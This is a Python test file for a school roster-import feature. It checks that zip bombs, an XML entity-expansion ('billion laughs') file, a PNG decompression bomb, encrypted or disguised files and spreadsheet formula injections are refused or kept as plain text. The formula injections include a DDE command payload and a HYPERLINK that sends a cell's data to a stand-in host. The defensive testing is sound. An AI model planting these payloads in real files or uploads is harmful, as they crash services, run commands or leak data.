"""Files nobody should send to the desk: too large, locked, disguised, or made to run something. Each is answered with a
sentence, or read as the plain text it is; and no pupil comes of what was refused."""

import io
import struct
import time
import tracemalloc
import zipfile
import zlib

import pytest
import xlsxwriter
from sqlalchemy import func, select

from tests.journeys.roster_import.test_columns import ENGLISH, PATH, planned, run_of, send
from tests.journeys.roster_import.test_mending import to_mend, workbook
from webapp.models import Student

HEAD = ("姓名", "性别", "班级", "身份证号")
CHILD = ("孔小云", "女", "三年级2班", "990101201706150017")
OLE = bytes.fromhex("d0cf11e0a1b11ae1")


def names(house):
    with house() as session:
        return set(session.scalars(select(Student.name)))


def with_part(name, content):
    """A roster with one more part in its zip."""
    out = io.BytesIO(workbook(HEAD, CHILD))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def an_image_bomb(side=40_000):
    """A PNG of some hundred bytes that says it is 40,000 pixels wide and high: 4.8 GB for whoever decodes it."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )


def with_image(image):
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    sheet = book.add_worksheet("三(2)班")
    for place, line in enumerate((HEAD, CHILD)):
        sheet.write_row(place, 0, line)
    sheet.insert_image(5, 5, "photo.png", {"image_data": io.BytesIO(image)})
    book.close()
    return out.getvalue()


LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><sst>&c;</sst>"""


def laughing():
    """A workbook whose strings are entities that unfold each other."""
    kept, out = zipfile.ZipFile(io.BytesIO(workbook(HEAD, CHILD))), io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for part in kept.namelist():
            archive.writestr(part, LAUGHS if part.endswith("sharedStrings.xml") else kept.read(part))
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "name", "said"),
    [
        (with_part("xl/media/bomb.bin", bytes(60_000_000)), "名册.xlsx", "too large"),
        (with_part("xl/worksheets/sheet9.xml", b"<c/>" * 10_000_000), "名册.xlsx", "too large"),
        (laughing(), "名册.xlsx", "damaged"),
        (OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le"), "名册.xlsx", "password"),
        (
            b"<html><body><table><tr><td>x</td></tr></table></body></html>",
            "名册.xls",
            "not the spreadsheet",
        ),
        (b"\xef\xbb\xbf<table><tr><td>x</td></tr></table>", "名册.xls", "not the spreadsheet"),
        (b"%PDF-1.7 ...", "名册.xlsx", "not the spreadsheet"),
    ],
    ids=["zip bomb", "sheet bomb", "unfolding entities", "password", "html", "table", "pdf"],
)
def test_what_is_no_honest_workbook_is_refused_in_words_and_soon(house, as_, data, name, said):
    chen, before = as_("chen"), names(house)
    began = time.process_time()
    answer = send(chen, data, name)
    assert time.process_time() - began < 5
    assert answer.status_code == 422
    assert said in answer.text
    assert names(house) == before


def test_an_image_in_a_workbook_is_never_decoded(house, as_):
    chen, data = as_("chen"), with_image(an_image_bomb())
    tracemalloc.start()
    try:
        where = planned(chen, data, name="名册.xlsx")
        assert tracemalloc.get_traced_memory()[1] < 100_000_000
    finally:
        tracemalloc.stop()
    assert run_of(house, where).counts["new"] == 1


class Unread(io.BytesIO):
    """A body that must not be read."""

    def read(self, *_size):
        raise AssertionError("the file was taken in before it was refused")

    readline = readinto = read


def test_two_hundred_megabytes_are_refused_before_they_are_taken_in(house, as_):
    answer = as_("chen").post(
        PATH,
        input_stream=Unread(),
        headers=ENGLISH,
        content_type="multipart/form-data; boundary=x",
        environ_overrides={"CONTENT_LENGTH": "200000000"},
    )
    assert answer.status_code == 413
    assert answer.mimetype == "text/html"
    assert "too large" in answer.text.lower()


def test_formulas_are_never_evaluated_and_what_begins_like_one_stays_text(house, as_):
    chen = as_("chen")
    head = (*HEAD, "住址", "备注")
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"strings_to_formulas": False})
    sheet = book.add_worksheet("三(2)班")
    sheet.write_row(0, 0, head)
    sheet.write_row(1, 0, (*CHILD, "@SUM(A1:A9)", "+1+1"))
    sheet.write_row(2, 0, ("", "女", "三年级2班", "", '=HYPERLINK("http://x/?"&A2,"看")', "=cmd|'/c calc'!A1"))
    sheet.write_formula(1, 1, '=IF(1=1,"男","女")', None, "女")  # the stored result counts, whatever the formula says
    sheet.write_formula(2, 1, '=WEBSERVICE("http://127.0.0.1:1/")', None, "")
    book.close()
    where = planned(chen, out.getvalue(), name="名册.xlsx")
    page = chen.get(where, headers=ENGLISH).text
    assert "begins like a formula" in page
    mended = to_mend(chen, where)
    cells = [cell for row in mended.worksheets[0].iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    chen.post(where)
    with house() as session:
        child = session.scalars(select(Student).where(Student.name == "孔小云")).one()
        assert (child.sex, child.address) == ("2", "@SUM(A1:A9)")


def test_an_identity_number_stored_as_a_number_is_refused_and_the_pupil_taken_without_it(house, as_):
    chen = as_("chen")
    where = planned(chen, workbook(HEAD, (*CHILD[:3], 990101201706150017)), name="名册.xlsx")
    assert "set the column to text" in chen.get(where, headers=ENGLISH).text
    chen.post(where)
    with house() as session:
        child = session.scalars(select(Student).where(Student.name == "孔小云")).one()
        assert (child.id_number, child.id_number_index, child.id_number_last4) == (None, None, None)


def test_the_same_workbook_twice_makes_nobody_twice(house, as_):
    chen, data = as_("chen"), workbook(HEAD, CHILD)
    for _ in range(2):
        chen.post(planned(chen, data, name="名册.xlsx"))
    with house() as session:
        assert session.scalar(select(func.count()).where(Student.name == "孔小云")) == 1
